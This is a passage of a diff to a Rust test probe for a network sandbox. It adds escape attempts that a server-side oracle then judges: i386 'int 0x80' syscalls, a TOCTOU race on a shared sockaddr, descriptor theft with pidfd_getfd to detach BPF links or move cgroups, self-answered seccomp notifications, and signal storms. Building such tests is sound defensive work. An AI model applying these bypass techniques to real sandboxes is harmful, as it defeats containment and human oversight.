@@ -8,16 +8,35 @@
 //! `ok` means the syscalls of the attempt succeeded, i.e. the packet could have
 //! left the machine.  The probe is not trusted by the tests: the server-side
 //! oracle decides whether anything leaked.  Extra keys (`pid`, `sandbox`,
-//! `cgroup`, `pin_dir`, `steps`) help the tests correlate and diagnose.
+//! `cgroup`, `pin_dir`, `enforcer` = NONO_ENFORCER, `uid`, `marker`,
+//! `steps`) help the tests correlate and diagnose. `pid` is the probe's pid
+//! in its own pid namespace (2 under a privileged agent), not the host's.
 //!
 //! Usage: `nono-probe VECTOR [--target ADDR] [--port N] [--id N] [--iface NAME]
 //! [--tag TAG] [--count N] [--pidfile PATH] [--sleep SECS]
-//! [--proxy-endpoint ADDR:PORT] [--bytes N]`.  Exit code 0 whenever the
-//! attempt was made (whatever its outcome), 2 on usage errors.
+//! [--proxy-endpoint ADDR:PORT] [--bytes N] [--marker M] [...]`.  Unknown
+//! `--key value` pairs are accepted and ignored: the tests pass a unique
+//! `--marker` so that every process of a run (forks inherit the command
+//! line) can be found from the host. Exit code 0 whenever the attempt was
+//! made (whatever its outcome), 2 on usage errors.
 //!
 //! Routing-option vectors (`srh6-*`, `rh2-*`, `lsrr4-*`, `ssrr4-*`) name
 //! loopback port `--port` and route through `--target`; they add
 //! `"refused_at"` (the step that rejected the option, or null).
+//! `int80-socketcall` / `int80-socket` connect with i386 system calls
+//! (`int 0x80`: socketcall(SYS_CONNECT), or socket + connect).
+//! `steal-fds` takes its parent's descriptors with pidfd_getfd and uses
+//! them (`--use links|cgroup|listener|all`: detach BPF links, write
+//! ancestors' cgroup.procs through a cgroup directory, answer its own
+//! seccomp notifications with "continue").
+//!
+//! Modes that are not one attempt: `race-sockaddr` (a sockaddr flipped
+//! between loopback and `--target:--deny-port` under connecting threads),
+//! `parallel-connect` (`--count` simultaneous loopback connects),
+//! `signal-storm` (SIGURG every `--signal-us` to threads doing loopback
+//! echo and UDP round trips plus a denied connect), `scm-rights` (fd passing
+//! over unix socketpairs), `connect-loop` (connects every `--interval-ms`,
+//! logging to `--logdir`, for a test that kills the agent meanwhile).
 //! `hold-nocaps` is not a vector: it drops every capability (bounding,
 //! ambient, effective, permitted, inheritable), stays uid 0 and sleeps.
 
@@ -89,6 +108,16 @@ const VECTORS: &[&str] = &[
     "udp-proxy-send",
     "tcp-proxy-bulk",
     "proc-root-cgroup",
+    "int80-socketcall",
+    "int80-socket",
+    "udp-sendmsg-cmsg-tos",
+    "udp6-sendmsg-cmsg-tclass",
+    "connect-loop",
+    "race-sockaddr",
+    "parallel-connect",
+    "signal-storm",
+    "scm-rights",
+    "steal-fds",
     "hold-nocaps",
 ];
 
@@ -1270,8 +1299,14 @@ fn tcp_bulk(sa: SocketAddr, bytes: usize) -> Attempt {
 // ---------------------------------------------------------------------------
 // Process vectors
 
+/// Writes `s` into an existing file (never creates one: a cgroup.procs
+/// path that does not exist must not leave a stray file behind).
 fn write_str(path: &Path, s: &str) -> Attempt {
-    match fs::write(path, s) {
+    let r = fs::OpenOptions::new()
+        .write(true)
+        .open(path)
+        .and_then(|mut f| f.write_all(s.as_bytes()));
+    match r {
         Ok(()) => Attempt::success(format!("wrote {s:?} to {}", path.display())),
         Err(e) => Attempt::fail(&format!("write {}", path.display()), &e),
     }
@@ -1296,16 +1331,38 @@ fn cgroup2_mount() -> Option<PathBuf> {
     })
 }
 
+/// The sandbox's cgroup: `NONO_CGROUP` (BPF enforcer), else our own
+/// cgroup2 directory from /proc/self/cgroup under the cgroup2 mount (the
+/// seccomp enforcer creates no cgroup; the attempts then target whatever
+/// cgroup we are in).
 fn nono_cgroup(steps: &mut Steps) -> Option<PathBuf> {
-    match std::env::var_os("NONO_CGROUP") {
-        Some(p) => Some(PathBuf::from(p)),
-        None => {
+    if let Some(p) = std::env::var_os("NONO_CGROUP") {
+        return Some(PathBuf::from(p));
+    }
+    let own = fs::read_to_string("/proc/self/cgroup").ok().and_then(|s| {
+        s.lines()
+            .find_map(|l| l.strip_prefix("0::"))
+            .map(|p| p.trim().trim_start_matches('/').to_string())
+    });
+    match (cgroup2_mount(), own) {
+        (Some(m), Some(rel)) => {
+            let p = if rel.is_empty() { m } else { m.join(rel) };
+            steps.push(
+                "env",
+                &Attempt::success(format!(
+                    "NONO_CGROUP not set; using own cgroup {}",
+                    p.display()
+                )),
+            );
+            Some(p)
+        }
+        (m, own) => {
             steps.push(
                 "env",
                 &Attempt {
                     ok: false,
                     errno: None,
-                    detail: "NONO_CGROUP not set".into(),
+                    detail: format!("NONO_CGROUP not set; cgroup2 mount {m:?}, own cgroup {own:?}"),
                 },
             );
             None
@@ -1329,7 +1386,12 @@ fn sub_cgroup(steps: &mut Steps, sa: SocketAddr) -> Attempt {
 
 fn parent_cgroup(steps: &mut Steps, sa: SocketAddr) -> Attempt {
     if let Some(cg) = nono_cgroup(steps) {
-        match cg.parent() {
+        // The parent only counts while it is still a cgroup2 directory.
+        let mount = cgroup2_mount();
+        match cg
+            .parent()
+            .filter(|p| mount.as_ref().is_some_and(|m| p.starts_with(m)))
+        {
             Some(parent) => {
                 steps.push("move-parent", &write_str(&parent.join("cgroup.procs"), "0"))
             }
@@ -1338,7 +1400,10 @@ fn parent_cgroup(steps: &mut Steps, sa: SocketAddr) -> Attempt {
                 &Attempt {
                     ok: false,
                     errno: None,
-                    detail: "NONO_CGROUP has no parent".into(),
+                    detail: format!(
+                        "{} has no parent cgroup (cgroup2 mount {mount:?})",
+                        cg.display()
+                    ),
                 },
             ),
         }
@@ -1879,6 +1944,1160 @@ fn daemonize(args: &Args, sa: SocketAddr) -> (Attempt, Vec<Value>, Option<i32>) 
 }
 
 // ---------------------------------------------------------------------------
+// i386 system calls from a 64-bit process (`int 0x80`)
+
+/// One page mapped below 4 GiB: `int 0x80` takes 32-bit pointers.
+#[cfg(target_arch = "x86_64")]
+fn low_page() -> io::Result<*mut u8> {
+    // SAFETY: anonymous private mapping; checked for MAP_FAILED.
+    let p = unsafe {
+        libc::mmap(
+            std::ptr::null_mut(),
+            4096,
+            libc::PROT_READ | libc::PROT_WRITE,
+            libc::MAP_PRIVATE | libc::MAP_ANONYMOUS | libc::MAP_32BIT,
+            -1,
+            0,
+        )
+    };
+    if p == libc::MAP_FAILED {
+        return Err(io::Error::last_os_error());
+    }
+    Ok(p as *mut u8)
+}
+
+/// An i386 system call through `int 0x80`: returns the raw result
+/// (-errno on failure). rbx is reserved by LLVM, so the first argument
+/// is swapped in and out around the trap.
+#[cfg(target_arch = "x86_64")]
+fn int80(nr: u32, a1: u32, a2: u32, a3: u32) -> i32 {
+    let ret: u32;
+    // SAFETY: the i386 syscall ABI; every register the kernel may touch
+    // is declared clobbered; pointer arguments point into a low page.
+    unsafe {
+        std::arch::asm!(
+            "xchg {b:r}, rbx",
+            "int 0x80",
+            "xchg {b:r}, rbx",
+            b = inout(reg) a1 as u64 => _,
+            inlateout("eax") nr => ret,
+            in("ecx") a2,
+            in("edx") a3,
+            out("r8") _,
+            out("r9") _,
+            out("r10") _,
+            out("r11") _,
+        );
+    }
+    ret as i32
+}
+
+#[cfg(target_arch = "x86_64")]
+fn int80_result(what: &str, r: i32) -> Result<i32, Attempt> {
+    if r < 0 {
+        Err(Attempt::fail(what, &io::Error::from_raw_os_error(-r)))
+    } else {
+        Ok(r)
+    }
+}
+
+/// Writes a sockaddr_in for `sa` at `p` (in the low page); returns its length.
+#[cfg(target_arch = "x86_64")]
+fn put_sockaddr_in(p: *mut u8, sa: &SocketAddr) -> u32 {
+    let (ss, len) = sockaddr(sa);
+    // SAFETY: p points into a 4 KiB page with room for a sockaddr_storage.
+    unsafe { std::ptr::copy_nonoverlapping(&ss as *const _ as *const u8, p, len as usize) };
+    len
+}
+
+/// A TCP connect made with i386 system calls: `socketcall(SYS_CONNECT)`
+/// (102) on a socket made by the 64-bit `socket()` (`socketcall`), or the
+/// direct i386 `socket` (359) and `connect` (362) calls.
+#[cfg(target_arch = "x86_64")]
+fn int80_connect(sa: SocketAddr, socketcall: bool, steps: &mut Steps) -> Attempt {
+    const NR32_SOCKETCALL: u32 = 102;
+    const NR32_SOCKET: u32 = 359;
+    const NR32_CONNECT: u32 = 362;
+    const SYS_CONNECT: u32 = 3;
+    if !sa.is_ipv4() {
+        usage("int80 vectors need an IPv4 --target");
+    }
+    let page = match low_page() {
+        Ok(p) => p,
+        Err(e) => return Attempt::fail("mmap(MAP_32BIT)", &e),
+    };
+    let low = |off: usize| (page as usize + off) as u32;
+    // SAFETY: offsets stay inside the page.
+    let addr_ptr = unsafe { page.add(256) };
+    let alen = put_sockaddr_in(addr_ptr, &sa);
+    let fd = if socketcall {
+        match socket(libc::AF_INET, libc::SOCK_STREAM, 0) {
+            Ok(fd) => fd,
+            Err(e) => return Attempt::fail("socket (64-bit)", &e),
+        }
+    } else {
+        let r = int80(
+            NR32_SOCKET,
+            libc::AF_INET as u32,
+            libc::SOCK_STREAM as u32,
+            0,
+        );
+        match int80_result("i386 socket(AF_INET, SOCK_STREAM) via int 0x80", r) {
+            // SAFETY: a fresh descriptor the kernel gave us.
+            Ok(fd) => unsafe { OwnedFd::from_raw_fd(fd) },
+            Err(a) => return a,
+        }
+    };
+    steps.push(
+        "socket",
+        &Attempt::success(format!(
+            "fd {} ({})",
+            fd.as_raw_fd(),
+            if socketcall {
+                "64-bit socket()"
+            } else {
+                "i386 socket"
+            }
+        )),
+    );
+    set_timeouts(fd.as_raw_fd(), CONNECT_TIMEOUT);
+    let r = if socketcall {
+        let args = [fd.as_raw_fd() as u32, low(256), alen];
+        // SAFETY: three u32 at the start of the page.
+        unsafe { std::ptr::copy_nonoverlapping(args.as_ptr(), page as *mut u32, 3) };
+        int80(NR32_SOCKETCALL, SYS_CONNECT, low(0), 0)
+    } else {
+        int80(NR32_CONNECT, fd.as_raw_fd() as u32, low(256), alen)
+    };
+    let how = if socketcall {
+        "i386 socketcall(SYS_CONNECT) via int 0x80"
+    } else {
+        "i386 connect via int 0x80"
+    };
+    match int80_result(&format!("{how} {sa}"), r) {
+        Ok(_) => {
+            let _ = send_fd(fd.as_raw_fd(), PAYLOAD);
+            Attempt::success(format!("{how} {sa}: connected"))
+        }
+        Err(a) => a,
+    }
+}
+
+#[cfg(not(target_arch = "x86_64"))]
+fn int80_connect(_sa: SocketAddr, _socketcall: bool, _steps: &mut Steps) -> Attempt {
+    Attempt {
+        ok: false,
+        errno: Some(libc::ENOSYS),
+        detail: "int 0x80 vectors exist on x86_64 only".into(),
+    }
+}
+
+// ---------------------------------------------------------------------------
+// Long-running and concurrency modes
+
+/// Unconnected UDP sendmsg to `sa` carrying an IP_TOS / IPV6_TCLASS cmsg.
+fn udp_sendmsg_cmsg(sa: SocketAddr, count: usize) -> Attempt {
+    let fd = match udp_socket(&sa.ip()) {
+        Ok(fd) => fd,
+        Err(e) => return Attempt::fail("socket", &e),
+    };
+    let (level, ty, what) = match sa {
+        SocketAddr::V4(_) => (libc::IPPROTO_IP, libc::IP_TOS, "IP_TOS"),
+        SocketAddr::V6(_) => (libc::IPPROTO_IPV6, libc::IPV6_TCLASS, "IPV6_TCLASS"),
+    };
+    for i in 0..count {
+        if let Err(e) = sendmsg_cmsg(fd.as_raw_fd(), Some(&sa), level, ty, &0x28i32.to_ne_bytes()) {
+            return Attempt::fail(&format!("sendmsg #{i} to {sa} with {what} cmsg"), &e);
+        }
+    }
+    Attempt::success(format!(
+        "{count} datagrams via sendmsg to {sa} with {what}=0x28 cmsg"
+    ))
+}
+
+fn now_unix() -> f64 {
+    std::time::SystemTime::now()
+        .duration_since(std::time::UNIX_EPOCH)
+        .map(|d| d.as_secs_f64())
+        .unwrap_or(0.0)
+}
+
+/// Connects to --target:--port every --interval-ms (200) for --secs (120),
+/// appending one JSON line per attempt to <--logdir>/connect.log; first
+/// writes <--logdir>/info.json (sandbox id, cgroup, pin dir, namespace pid).
+/// The log is read from the host while the sandbox lives (and after its
+/// agent was killed).
+fn connect_loop(args: &Args) -> ! {
+    let sa = args.target_sa();
+    let dir = PathBuf::from(args.req("logdir"));
+    let interval = Duration::from_millis(args.num("interval-ms", Some(200)));
+    let secs: u64 = args.num("secs", Some(120));
+    let env = |k: &str| std::env::var(k).ok();
+    // SAFETY: plain syscalls.
+    let (pid, ppid, uid) = unsafe { (libc::getpid(), libc::getppid(), libc::geteuid()) };
+    let info = json!({
+        "pid": pid, "ppid": ppid, "uid": uid,
+        "sandbox": env("NONO_SANDBOX_ID"), "cgroup": env("NONO_CGROUP"),
+        "pin_dir": env("NONO_BPF_PIN_DIR"), "enforcer": env("NONO_ENFORCER"),
+        "marker": args.get("marker"),
+    });
+    let tmp = dir.join("info.json.tmp");
+    if fs::write(&tmp, info.to_string()).is_ok() {
+        let _ = fs::rename(&tmp, dir.join("info.json"));
+    }
+    let mut log = match fs::OpenOptions::new()
+        .create(true)
+        .append(true)
+        .open(dir.join("connect.log"))
+    {
+        Ok(f) => f,
+        Err(e) => {
+            eprintln!(
+                "nono-probe: connect-loop: cannot open log in {}: {e}",
+                dir.display()
+            );
+            exit(1);
+        }
+    };
+    devnull_stdio();
+    let start = Instant::now();
+    let mut n = 0u64;
+    while start.elapsed() < Duration::from_secs(secs) {
+        let a = tcp_connect(sa, 0);
+        let line = json!({"n": n, "t": now_unix(), "ok": a.ok, "errno": a.errno,
+                          "detail": a.detail});
+        let _ = writeln!(log, "{line}");
+        let _ = log.flush();
+        n += 1;
+        std::thread::sleep(interval);
+    }
+    exit(0);
+}
+
+/// `struct sockaddr_in` for a v4 SocketAddr as the two u64 words it
+/// occupies (the address and port are in the first).
+fn sockaddr_in_words(sa: &SocketAddr) -> [u64; 2] {
+    let (ss, _) = sockaddr(sa);
+    let mut w = [0u64; 2];
+    // SAFETY: sockaddr_storage is at least 16 bytes.
+    unsafe {
+        std::ptr::copy_nonoverlapping(&ss as *const _ as *const u8, w.as_mut_ptr() as *mut u8, 16)
+    };
+    w
+}
+
+fn peer_of(fd: RawFd) -> Option<SocketAddr> {
+    // SAFETY: zeroed storage is a valid out-parameter.
+    let mut ss: libc::sockaddr_storage = unsafe { mem::zeroed() };
+    let mut len = mem::size_of::<libc::sockaddr_storage>() as libc::socklen_t;
+    // SAFETY: valid out pointers.
+    if unsafe { libc::getpeername(fd, &mut ss as *mut _ as *mut libc::sockaddr, &mut len) } != 0 {
+        return None;
+    }
+    if ss.ss_family as libc::c_int != libc::AF_INET {
+        return None;
+    }
+    // SAFETY: family checked.
+    let sin = unsafe { &*(&ss as *const _ as *const libc::sockaddr_in) };
+    Some(SocketAddr::new(
+        Ipv4Addr::from(u32::from_be(sin.sin_addr.s_addr)).into(),
+        u16::from_be(sin.sin_port),
+    ))
+}
+
+/// Abort a TCP connection with RST on close (no TIME_WAIT), so that tens
+/// of thousands of short connections do not exhaust the ephemeral ports.
+fn linger_zero(fd: RawFd) {
+    let l = libc::linger {
+        l_onoff: 1,
+        l_linger: 0,
+    };
+    // SAFETY: valid pointer/length for SO_LINGER.
+    unsafe {
+        libc::setsockopt(
+            fd,
+            libc::SOL_SOCKET,
+            libc::SO_LINGER,
+            &l as *const _ as *const libc::c_void,
+            mem::size_of::<libc::linger>() as libc::socklen_t,
+        )
+    };
+}
+
+/// TOCTOU race on the sockaddr: one thread flips a shared sockaddr buffer
+/// between 127.0.0.1:--port (allowed) and --target:--deny-port (denied) as
+/// fast as it can, --threads threads connect in a loop with that buffer for
+/// --secs seconds. Every connect that succeeds must have gone to loopback.
+fn race_sockaddr(args: &Args, extra: &mut serde_json::Map<String, Value>) -> Attempt {
+    use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
+    use std::sync::Arc;
+    let allowed = lo4(args);
+    let denied = SocketAddr::new(args.target(), args.num("deny-port", None));
+    if !denied.is_ipv4() {
+        usage("race-sockaddr needs an IPv4 --target");
+    }
+    let secs: f64 = args.num("secs", Some(5.0));
+    let threads: usize = args.num("threads", Some(2));
+    let (wa, wd) = (sockaddr_in_words(&allowed), sockaddr_in_words(&denied));
+    // 16-byte aligned shared sockaddr_in; only the first word differs.
+    #[repr(C, align(16))]
+    struct Shared([AtomicU64; 2]);
+    let buf = Arc::new(Shared([AtomicU64::new(wa[0]), AtomicU64::new(wa[1])]));
+    let stop = Arc::new(AtomicBool::new(false));
+    let flips = Arc::new(AtomicU64::new(0));
+    let flipper = {
+        let (buf, stop, flips) = (buf.clone(), stop.clone(), flips.clone());
+        std::thread::spawn(move || {
+            let mut n = 0u64;
+            while !stop.load(Ordering::Relaxed) {
+                for _ in 0..64 {
+                    buf.0[0].store(wd[0], Ordering::Relaxed);
+                    buf.0[0].store(wa[0], Ordering::Relaxed);
+                }
+                n += 128;
+            }
+            flips.store(n, Ordering::Relaxed);
+        })
+    };
+    let deadline = Instant::now() + Duration::from_secs_f64(secs);
+    let workers: Vec<_> = (0..threads)
+        .map(|_| {
+            let buf = buf.clone();
+            std::thread::spawn(move || {
+                let mut counts: std::collections::BTreeMap<String, u64> = Default::default();
+                let mut leaks: Vec<String> = Vec::new();
+                while Instant::now() < deadline {
+                    let fd = match socket(libc::AF_INET, libc::SOCK_STREAM, 0) {
+                        Ok(fd) => fd,
+                        Err(e) => {
+                            *counts
+                                .entry(format!("socket errno {:?}", e.raw_os_error()))
+                                .or_default() += 1;
+                            continue;
+                        }
+                    };
+                    set_timeouts(fd.as_raw_fd(), Duration::from_secs(2));
+                    linger_zero(fd.as_raw_fd());
+                    // SAFETY: the shared buffer is a valid 16-byte
+                    // sockaddr_in whichever value it holds.
+                    let r = unsafe {
+                        libc::connect(fd.as_raw_fd(), buf.0.as_ptr() as *const libc::sockaddr, 16)
+                    };
+                    if r == 0 {
+                        match peer_of(fd.as_raw_fd()) {
+                            Some(p) if p == allowed => {
+                                *counts.entry("ok-loopback".into()).or_default() += 1
+                            }
+                            other => {
+                                *counts.entry("ok-ELSEWHERE".into()).or_default() += 1;
+                                if leaks.len() < 20 {
+                                    leaks.push(format!("connected to {other:?}"));
+                                }
+                            }
+                        }
+                    } else {
+                        let e = io::Error::last_os_error().raw_os_error().unwrap_or(0);
+                        let k = match e {
+                            libc::EPERM => "EPERM".to_string(),
+                            libc::EACCES => "EACCES".to_string(),
+                            e => format!("errno {e}"),
+                        };
+                        *counts.entry(k).or_default() += 1;
+                    }
+                }
+                (counts, leaks)
+            })
+        })
+        .collect();
+    let mut counts: std::collections::BTreeMap<String, u64> = Default::default();
+    let mut leaks = Vec::new();
+    for w in workers {
+        if let Ok((c, l)) = w.join() {
+            for (k, v) in c {
+                *counts.entry(k).or_default() += v;
+            }
+            leaks.extend(l);
+        }
+    }
+    stop.store(true, Ordering::Relaxed);
+    let _ = flipper.join();
+    let ok_lo = counts.get("ok-loopback").copied().unwrap_or(0);
+    let elsewhere = counts.get("ok-ELSEWHERE").copied().unwrap_or(0);
+    extra.insert("counts".into(), json!(counts));
+    extra.insert("flips".into(), json!(flips.load(Ordering::Relaxed)));
+    extra.insert("leaks".into(), json!(leaks));
+    extra.insert("ok_loopback".into(), json!(ok_lo));
+    Attempt {
+        ok: elsewhere == 0 && ok_lo > 0,
+        errno: None,
+        detail: format!(
+            "{threads} connect threads for {secs}s against a buffer flipped between {allowed} and \
+             {denied}: {counts:?}"
+        ),
+    }
+}
+
+/// --count threads connect to 127.0.0.1:--port at once (a barrier releases
+/// them together), send one byte and close; all must succeed.
+fn parallel_connect(args: &Args, extra: &mut serde_json::Map<String, Value>) -> Attempt {
+    let sa = lo4(args);
+    let count: usize = args.num("count", Some(200));
+    let barrier = std::sync::Arc::new(std::sync::Barrier::new(count));
+    let handles: Vec<_> = (0..count)
+        .map(|_| {
+            let b = barrier.clone();
+            std::thread::Builder::new()
+                .stack_size(256 << 10)
+                .spawn(move || {
+                    let fd = socket(libc::AF_INET, libc::SOCK_STREAM, 0)?;
+                    set_timeouts(fd.as_raw_fd(), Duration::from_secs(20));
+                    b.wait();
+                    connect_fd(fd.as_raw_fd(), &sa)?;
+                    send_fd(fd.as_raw_fd(), b"x")?;
+                    Ok::<_, io::Error>(())
+                })
+        })
+        .collect();
+    let mut ok = 0usize;
+    let mut errors: std::collections::BTreeMap<String, usize> = Default::default();
+    for h in handles {
+        match h {
+            Ok(h) => match h.join() {
+                Ok(Ok(())) => ok += 1,
+                Ok(Err(e)) => *errors.entry(e.to_string()).or_default() += 1,
+                Err(_) => *errors.entry("thread panicked".into()).or_default() += 1,
+            },
+            Err(e) => *errors.entry(format!("spawn: {e}")).or_default() += 1,
+        }
+    }
+    extra.insert("succeeded".into(), json!(ok));
+    extra.insert("errors".into(), json!(errors));
+    Attempt {
+        ok: ok == count,
+        errno: None,
+        detail: format!("{ok}/{count} parallel connects to {sa} succeeded; errors {errors:?}"),
+    }
+}
+
+static SIGURG_HANDLED: std::sync::atomic::AtomicU64 = std::sync::atomic::AtomicU64::new(0);
+
+extern "C" fn on_sigurg(_: libc::c_int) {
+    SIGURG_HANDLED.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
+}
+
+fn gettid() -> libc::pid_t {
+    // SAFETY: plain syscall.
+    unsafe { libc::syscall(libc::SYS_gettid) as libc::pid_t }
+}
+
+/// Waits for `ev` on `fd`, retrying EINTR (poll is never restarted).
+fn poll_retry(fd: RawFd, ev: libc::c_short, surprises: &mut Vec<String>) -> bool {
+    let deadline = Instant::now() + Duration::from_secs(20);
+    loop {
+        let mut p = libc::pollfd {
+            fd,
+            events: ev,
+            revents: 0,
+        };
+        // SAFETY: one valid pollfd.
+        let n = unsafe { libc::poll(&mut p, 1, 1000) };
+        if n > 0 {
+            return true;
+        }
+        if n < 0 && io::Error::last_os_error().raw_os_error() != Some(libc::EINTR) {
+            surprises.push(format!("poll: {}", io::Error::last_os_error()));
+            return false;
+        }
+        if Instant::now() > deadline {
+            surprises.push("poll timed out after 20 s".into());
+            return false;
+        }
+    }
+}
+
+/// One echo round trip on a fresh TCP connection to `sa`: `blocking`
+/// sockets rely on SA_RESTART; non-blocking ones are driven Go-style
+/// (EINPROGRESS + poll + SO_ERROR, EAGAIN + poll). The payload is sent in
+/// three parts with send(), sendmsg() and sendto(addr) in turn.
+fn echo_round(sa: SocketAddr, blocking: bool, seed: u64, surprises: &mut Vec<String>) -> bool {
+    let ty = libc::SOCK_STREAM | if blocking { 0 } else { libc::SOCK_NONBLOCK };
+    let fd = match socket(libc::AF_INET, ty, 0) {
+        Ok(fd) => fd,
+        Err(e) => {
+            surprises.push(format!("socket: {e}"));
+            return false;
+        }
+    };
+    let raw = fd.as_raw_fd();
+    linger_zero(raw);
+    match connect_fd(raw, &sa) {
+        Ok(()) => {}
+        Err(e) if !blocking && e.raw_os_error() == Some(libc::EINPROGRESS) => {
+            if !poll_retry(raw, libc::POLLOUT, surprises) {
+                return false;
+            }
+            let mut err: libc::c_int = 0;
+            let mut len = mem::size_of::<libc::c_int>() as libc::socklen_t;
+            // SAFETY: valid out pointers.
+            unsafe {
+                libc::getsockopt(
+                    raw,
+                    libc::SOL_SOCKET,
+                    libc::SO_ERROR,
+                    &mut err as *mut _ as *mut libc::c_void,
+                    &mut len,
+                )
+            };
+            if err != 0 {
+                surprises.push(format!(
+                    "non-blocking connect {sa}: SO_ERROR {}",
+                    io::Error::from_raw_os_error(err)
+                ));
+                return false;
+            }
+        }
+        Err(e) => {
+            surprises.push(format!(
+                "{} connect {sa}: {e}",
+                if blocking { "blocking" } else { "non-blocking" }
+            ));
+            return false;
+        }
+    }
+    let data: Vec<u8> = (0..6000u64)
+        .map(|i| ((i * 31 + seed) % 251) as u8)
+        .collect();
+    let parts = [&data[..2000], &data[2000..4000], &data[4000..]];
+    let (ss, slen) = sockaddr(&sa);
+    for (k, part) in parts.iter().enumerate() {
+        let mut off = 0;
+        while off < part.len() {
+            let rest = &part[off..];
+            let mut iov = libc::iovec {
+                iov_base: rest.as_ptr() as *mut libc::c_void,
+                iov_len: rest.len(),
+            };
+            // SAFETY: all-zero msghdr is valid; iov set below.
+            let mut msg: libc::msghdr = unsafe { mem::zeroed() };
+            msg.msg_iov = &mut iov;
+            msg.msg_iovlen = 1;
+            // SAFETY: valid buffers for each call.
+            let n = unsafe {
+                match k {
+                    0 => libc::send(raw, rest.as_ptr().cast(), rest.len(), libc::MSG_NOSIGNAL),
+                    1 => libc::sendmsg(raw, &msg, libc::MSG_NOSIGNAL),
+                    _ => libc::sendto(
+                        raw,
+                        rest.as_ptr().cast(),
+                        rest.len(),
+                        libc::MSG_NOSIGNAL,
+                        &ss as *const _ as *const libc::sockaddr,
+                        slen,
+                    ),
+                }
+            };
+            if n < 0 {
+                let e = io::Error::last_os_error();
+                if !blocking && e.raw_os_error() == Some(libc::EAGAIN) {
+                    if !poll_retry(raw, libc::POLLOUT, surprises) {
+                        return false;
+                    }
+                    continue;
+                }
+                let call = ["send", "sendmsg", "sendto"][k];
+                surprises.push(format!("{call} on a connection to {sa}: {e}"));
+                return false;
+            }
+            off += n as usize;
+        }
+    }
+    // SAFETY: plain syscall on our socket.
+    unsafe { libc::shutdown(raw, libc::SHUT_WR) };
+    let mut got = Vec::with_capacity(data.len());
+    let mut buf = [0u8; 8192];
+    loop {
+        // SAFETY: valid buffer.
+        let n = unsafe { libc::read(raw, buf.as_mut_ptr().cast(), buf.len()) };
+        if n == 0 {
+            break;
+        }
+        if n < 0 {
+            let e = io::Error::last_os_error();
+            if !blocking && e.raw_os_error() == Some(libc::EAGAIN) {
+                if !poll_retry(raw, libc::POLLIN, surprises) {
+                    return false;
+                }
+                continue;
+            }
+            surprises.push(format!("read echo from {sa}: {e}"));
+            return false;
+        }
+        got.extend_from_slice(&buf[..n as usize]);
+    }
+    if got != data {
+        surprises.push(format!(
+            "echo from {sa}: sent {} bytes, got {} back ({})",
+            data.len(),
+            got.len(),
+            if got.len() == data.len() {
+                "contents differ"
+            } else {
+                "lost or extra data"
+            }
+        ));
+        return false;
+    }
+    true
+}
+
+/// A UDP datagram to our own loopback socket with sendto(addr), read back.
+fn udp_self_round(fd: RawFd, me: SocketAddr, seq: u64, surprises: &mut Vec<String>) -> bool {
+    let msg = seq.to_ne_bytes();
+    if let Err(e) = sendto_fd(fd, &msg, 0, &me) {
+        surprises.push(format!("udp sendto {me}: {e}"));
+        return false;
+    }
+    let mut buf = [0u8; 16];
+    loop {
+        // SAFETY: valid buffer.
+        let n = unsafe { libc::recv(fd, buf.as_mut_ptr().cast(), buf.len(), libc::MSG_DONTWAIT) };
+        if n >= 0 {
+            if n as usize != 8 || buf[..8] != msg {
+                surprises.push(format!(
+                    "udp from self: expected seq {seq}, got {:?}",
+                    &buf[..n as usize]
+                ));
+                return false;
+            }
+            return true;
+        }
+        let e = io::Error::last_os_error();
+        if e.raw_os_error() != Some(libc::EAGAIN) {
+            surprises.push(format!("udp recv: {e}"));
+            return false;
+        }
+        if !poll_retry(fd, libc::POLLIN, surprises) {
+            return false;
+        }
+    }
+}
+
+/// "Go under preemption signals": a handler for SIGURG (SA_RESTART), one
+/// thread sends SIGURG to every worker thread about every --signal-us (50)
+/// microseconds while --threads workers, for --secs seconds, do echo round
+/// trips to 127.0.0.1:--port (half with blocking sockets, half
+/// non-blocking), a UDP round trip to themselves, and a connect to
+/// --target:--deny-port, which must fail with EPERM every time.
+fn signal_storm(args: &Args, extra: &mut serde_json::Map<String, Value>) -> Attempt {
+    use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
+    use std::sync::{Arc, Mutex};
+    let sa = lo4(args);
+    let denied = SocketAddr::new(args.target(), args.num("deny-port", None));
+    let secs: f64 = args.num("secs", Some(3.0));
+    let threads: usize = args.num("threads", Some(4));
+    let period = Duration::from_micros(args.num("signal-us", Some(50)));
+    // SAFETY: installing a handler that only bumps an atomic counter.
+    unsafe {
+        let mut act: libc::sigaction = mem::zeroed();
+        act.sa_sigaction = on_sigurg as *const () as usize;
+        act.sa_flags = libc::SA_RESTART;
+        libc::sigemptyset(&mut act.sa_mask);
+        if libc::sigaction(libc::SIGURG, &act, std::ptr::null_mut()) != 0 {
+            return Attempt::last_os("sigaction(SIGURG)");
+        }
+    }
+    let tids = Arc::new(Mutex::new(Vec::<libc::pid_t>::new()));
+    let stop = Arc::new(AtomicBool::new(false));
+    let sent = Arc::new(AtomicU64::new(0));
+    let deadline = Instant::now() + Duration::from_secs_f64(secs);
+    let workers: Vec<_> = (0..threads)
+        .map(|w| {
+            let tids = tids.clone();
+            std::thread::spawn(move || {
+                tids.lock().unwrap().push(gettid());
+                let mut surprises = Vec::new();
+                let mut c: std::collections::BTreeMap<&'static str, u64> = Default::default();
+                let udp = match socket(libc::AF_INET, libc::SOCK_DGRAM, 0) {
+                    Ok(fd) => fd,
+                    Err(e) => return (c, vec![format!("udp socket: {e}")]),
+                };
+                let (ss, len) = sockaddr(&SocketAddr::new(Ipv4Addr::LOCALHOST.into(), 0));
+                // SAFETY: valid sockaddr.
+                unsafe {
+                    libc::bind(
+                        udp.as_raw_fd(),
+                        &ss as *const _ as *const libc::sockaddr,
+                        len,
+                    )
+                };
+                let me = udp_local_addr(udp.as_raw_fd());
+                let blocking = w % 2 == 0;
+                let mut i = 0u64;
+                while Instant::now() < deadline && surprises.len() < 20 {
+                    if echo_round(sa, blocking, i + w as u64, &mut surprises) {
+                        *c.entry("echo-ok").or_default() += 1;
+                    }
+                    if let Some(me) = me {
+                        if udp_self_round(udp.as_raw_fd(), me, i, &mut surprises) {
+                            *c.entry("udp-ok").or_default() += 1;
+                        }
+                    }
+                    let a = tcp_connect(denied, 0);
+                    if a.ok {
+                        surprises.push(format!("LEAK: connect {denied} succeeded"));
+                    } else if a.errno == Some(libc::EPERM) || a.errno == Some(libc::EACCES) {
+                        *c.entry("denied-eperm").or_default() += 1;
+                    } else {
